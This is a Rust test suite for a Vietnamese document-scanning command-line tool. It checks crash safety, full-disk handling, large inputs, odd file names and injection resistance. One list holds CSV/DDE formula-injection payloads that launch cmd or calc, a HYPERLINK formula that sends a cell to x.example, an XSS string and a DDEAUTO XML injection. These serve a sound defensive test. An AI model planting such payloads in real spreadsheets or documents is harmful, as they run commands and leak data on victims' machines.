//! What a run survives: being killed, a full disk, thousands of files, odd names, one very long document, hostile words.

use std::collections::HashSet;
use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};

use calamine::{Reader as _, Xlsx, open_workbook};

use crate::fixture::{Batch, DECISION, docx};

const PROGRAM: &str = env!("CARGO_BIN_EXE_rasoat");

fn scan(batch: &Batch) -> Command {
    let mut command = Command::new(PROGRAM);
    command.args(["scan", "van-ban", "--out", "ra", "--as-of", "2026-11-22", "--quiet"]).current_dir(batch.path());
    command.stdout(Stdio::null()).stderr(Stdio::null());
    command
}

/// Both outputs, when both are whole.
fn outputs(batch: &Batch) -> Option<(Vec<u8>, Vec<u8>)> {
    let file = |name: &str| fs::read(batch.path().join("ra").join(name)).ok();
    Some((file("ket-qua.json")?, file("de-xuat.xlsx")?))
}

#[test]
fn a_killed_run_leaves_each_output_old_or_new() {
    let batch = Batch::with_decision();
    assert!(scan(&batch).status().expect("a run").success());
    let old = outputs(&batch).expect("outputs");
    batch.file("van-ban/qd-18.docx", &docx(&[DECISION, &["Phụ lục thêm để kết quả khác đi."]].concat()));
    let timed = std::time::Instant::now();
    let fresh = Batch::new();
    for file in ["qd-17.docx", "qd-18.docx"] {
        fresh.file(&format!("van-ban/{file}"), &batch.bytes(&format!("van-ban/{file}")));
    }
    assert!(scan(&fresh).status().expect("a run").success());
    let whole = timed.elapsed();
    let new = outputs(&fresh).expect("outputs");
    assert!(old.0 != new.0 && old.1 != new.1);
    // From the very start to after the end, so that some kills fall into the writing on any machine.
    const MOMENTS: u32 = 24;
    let mut killed = 0;
    for moment in 0..MOMENTS {
        let mut run = scan(&batch).spawn().expect("a run");
        std::thread::sleep(whole * moment / (MOMENTS - 4));
        killed += u32::from(run.try_wait().expect("a state").is_none());
        run.kill().expect("a kill");
        run.wait().expect("an end");
        let (json, book) = outputs(&batch).expect("outputs never vanish");
        assert!(json == old.0 || json == new.0, "moment {moment}: half a ket-qua.json");
        assert!(book == old.1 || book == new.1, "moment {moment}: half a workbook");
    }
    assert!(killed > 0, "no run was killed: the test shows nothing");
    // What killed runs left behind is neither read nor counted.
    assert!(scan(&batch).status().expect("a run").success());
    assert_eq!(outputs(&batch).expect("outputs"), new);
}

#[test]
#[cfg(target_os = "linux")]
fn a_full_disk_is_said_and_leaves_what_was_there() {
    let batch = Batch::with_decision();
    assert!(scan(&batch).status().expect("a run").success());
    let old = outputs(&batch).expect("outputs");
    // A disk of 16 KB of our own, in a mount namespace that ends with the run.
    let script = format!(
        "mount -t tmpfs -o size=16k none day && cp ra/ket-qua.json day/ 2>/dev/null; exec {PROGRAM} scan van-ban --out day --as-of 2026-11-22"
    );
    fs::create_dir(batch.path().join("day")).expect("a folder");
    let ran = Command::new("unshare").args(["--mount", "sh", "-c", &script]).current_dir(batch.path()).output();
    let Ok(ran) = ran else { return eprintln!("skipped: unshare is not here") };
    let said = String::from_utf8_lossy(&ran.stderr);
    if said.contains("unshare") || said.contains("mount:") {
        return eprintln!("skipped: no mount namespace may be made here");
    }
    assert_eq!(ran.status.code(), Some(2), "{said}");
    assert!(said.contains("lỗi:") && said.contains("day"), "{said}");
    assert_eq!(outputs(&batch).expect("outputs"), old);
}

#[test]
fn ten_thousand_files_in_a_folder() {
    let batch = Batch::new();
    let text = DECISION[7..].join("\n");
    for number in 0..10_000 {
        batch.file(&format!("van-ban/{number:05}.txt"), format!("Số: {number}/2019/QĐ-UBND\n{text}").as_bytes());
    }
    let ran = batch.scan(&["--quiet"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    let results = batch.results();
    assert_eq!(results["run"]["read"], 10_000);
    let ids: HashSet<&str> =
        results["documents"].as_array().expect("documents").iter().filter_map(|one| one["id"].as_str()).collect();
    assert_eq!(ids.len(), 10_000);
}

#[test]
fn a_document_of_five_hundred_pages() {
    let mut lines: Vec<String> = DECISION[..9].iter().map(|&line| line.to_owned()).collect();
    for article in 1..=1500 {
        lines.push(format!("Điều {article}. Nội dung thứ {article}"));
        for clause in 1..=5 {
            lines.push(format!("{clause}. Mức đóng góp được thông qua khi có trên 50% số cử tri đại diện hộ gia đình tán thành; việc thu, chi được công khai để Nhân dân biết và kiểm tra."));
        }
    }
    let batch = Batch::new();
    batch.file("van-ban/dai.docx", &docx(&lines.iter().map(String::as_str).collect::<Vec<_>>()));
    let ran = batch.run(&["scan", "van-ban", "--out", "ra", "--as-of", "2026-11-22"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    let results = batch.results();
    assert_eq!(results["documents"][0]["units"]["articles"], 1500);
    assert_eq!(results["documents"][0]["units"]["clauses"], 7500);
    assert!(results["findings"].as_array().expect("findings").len() >= 7500);
}

#[test]
fn names_with_every_odd_character() {
    let batch = Batch::new();
    let mut names = vec![
        "khoảng  trắng .docx",
        "Quyết định số 17.docx",
        "#$%&'()+,;=@[]^`{}~.docx",
        "😀.docx",
        "-rf.docx",
        "đ\u{323}ò\u{301}.docx",
    ];
    if cfg!(unix) {
        names.extend([
            "xuống\ndòng.docx",
            "a\tb.docx",
            "a\"b<c>|?*.docx",
            "\u{1b}[31mđỏ.docx",
            "=1+1.docx",
            "\u{202e}xcod.docx",
        ]);
    }
    for name in &names {
        batch.file(&format!("van-ban/{name}"), &docx(DECISION));
    }
    let ran = batch.run(&["scan", "van-ban", "--out", "ra", "--as-of", "2026-11-22"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    let results = batch.results();
    assert_eq!(results["run"]["read"], names.len());
    assert!(!ran.out.contains('\u{1b}') && !ran.err.contains('\u{1b}'), "a name steers the terminal");
}

/// Words that other programs would run.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "]]></w:t></w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>&#x41;&amp;",
];

#[test]
fn words_of_a_document_stay_words_in_every_output() {
    let batch = Batch::new();
    let mut lines = DECISION.to_vec();
    lines.splice(3..4, ["Số: 17/2019/QĐ-UBND"]);
    lines[6] = HOSTILE[0];
    let hostile: Vec<String> = HOSTILE
        .iter()
        .map(|words| {
            format!("{words} mức đóng góp được thông qua khi có trên 50% số cử tri đại diện hộ gia đình tán thành")
        })
        .collect();
    lines.extend(hostile.iter().map(String::as_str));
    batch.file("van-ban/=1+1.docx", &docx(&lines));
    let ran = batch.run(&["scan", "van-ban", "--out", "ra", "--as-of", "2026-11-22", "--sample", "5"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    for name in batch.names("ra").iter().filter(|name| name.ends_with(".xlsx")) {
        let path = batch.path().join("ra").join(name);
        let mut book: Xlsx<_> = open_workbook(&path).expect("a workbook");
        for sheet in book.sheet_names() {
            let formulas = book.worksheet_formula(&sheet).expect("a sheet");
            let found: Vec<&String> = formulas.rows().flatten().filter(|formula| !formula.is_empty()).collect();
            assert!(found.is_empty(), "{name} {sheet}: {found:?}");
        }
        assert_no_links(&path);
    }
}

/// No part of the workbook points outside it.
fn assert_no_links(path: &Path) {
    let mut archive = zip::ZipArchive::new(fs::File::open(path).expect("a file")).expect("a zip");
    for at in 0..archive.len() {
        let mut part = archive.by_index(at).expect("a part");
        let name = part.name().expect("a name").into_owned();
        assert!(!name.contains("externalLink"), "{name}");
        if name.ends_with(".rels") {
            let text = std::io::read_to_string(&mut part).expect("text");
            assert!(!text.contains("TargetMode=\"External\""), "{text}");
        }
    }
}

#[test]
fn a_folder_that_may_not_be_written_is_said_before_any_work() {
    let batch = Batch::with_decision();
    batch.file("ra", b"a file where the folder should be");
    let ran = batch.run(&["scan", "van-ban", "--out", "ra", "--as-of", "2026-11-22"]);
    ran.ends(2, &["Không tạo được hoặc không ghi được", "--out"]);
    assert_eq!(batch.bytes("ra"), b"a file where the folder should be");
}
